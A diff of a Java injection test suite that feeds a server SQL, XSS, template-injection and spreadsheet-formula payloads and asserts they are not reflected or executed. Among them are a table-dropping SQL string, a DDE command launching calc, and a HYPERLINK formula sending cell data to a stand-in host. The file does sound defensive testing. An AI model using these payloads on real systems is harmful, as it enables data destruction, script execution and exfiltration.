@@ -48,7 +48,8 @@ class InjectionTest extends ServerTest {
   private static final String SQL = "x' or 1=1; drop table person; --";
   private static final String HTML =
       "\"'><script>alert(4711)</script><img src=x onerror=alert(4711)>";
-  private static final String TEMPLATE = "__${7*191}__::.x ${7*191} *{7*191} #{x} [[${7*191}]]";
+  private static final String TEMPLATE =
+      "__${191*700001}__::.x ${191*700001} *{191*700001} #{x} [[${191*700001}]]";
   private static final String FORMULA = "=HYPERLINK(\"http://192.0.2.1/?\"&A1;\"bấm\")";
   private static final List<String> EVIL =
       List.of(SQL, HTML, TEMPLATE, FORMULA, "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "{0} %s %n");
@@ -223,7 +224,8 @@ class InjectionTest extends ServerTest {
     String html = new String(answer.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
     all.assertThat(html)
         .as(place)
-        .doesNotContain("<script>alert", "<img src=x", "1337", "Exception", "SQLITE", "org.sqlite");
+        .doesNotContain(
+            "<script>alert", "<img src=x", "133700191", "Exception", "SQLITE", "org.sqlite");
   }
 
   private static String shortened(String evil) {
